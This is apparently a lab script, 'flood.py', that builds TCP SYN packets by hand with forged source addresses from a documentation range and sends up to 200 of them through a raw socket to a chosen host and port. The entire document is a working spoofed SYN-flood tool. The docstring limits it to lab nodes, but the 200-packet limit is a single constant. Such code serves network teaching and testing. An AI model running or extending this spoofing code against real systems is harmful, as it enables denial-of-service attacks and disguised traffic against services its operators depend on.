"""A few forged SYNs, from addresses of nobody (198.51.100.0/24 is for documentation, RFC 5737).

    flood.py ADDRESS PORT COUNT

A lab has no way out: these go to a node of this lab, or nowhere. COUNT is 200 at most.
"""

import socket
import struct
import sys

MOST = 200
SYN, WORDS, WINDOW = 0x02, 5, 64240


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def syn(source: str, destination: str, source_port: int, port: int) -> bytes:
    """An IPv4 packet with a SYN; the kernel fills in the IP header's checksum."""
    ends = socket.inet_aton(source) + socket.inet_aton(destination)

    def header(value: int) -> bytes:
        return struct.pack("!HHIIBBHHH", source_port, port, 1000, 0, WORDS << 4, SYN, WINDOW, value, 0)

    segment = header(checksum(ends + struct.pack("!HH", socket.IPPROTO_TCP, 20) + header(0)))
    return struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + ends + segment


host, port, count = sys.argv[1], int(sys.argv[2]), min(int(sys.argv[3]), MOST)
wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for number in range(count):
    wire.sendto(syn(f"198.51.100.{1 + number % 250}", host, 20000 + number, port), (host, 0))
print(f"{count} SYNs sent")
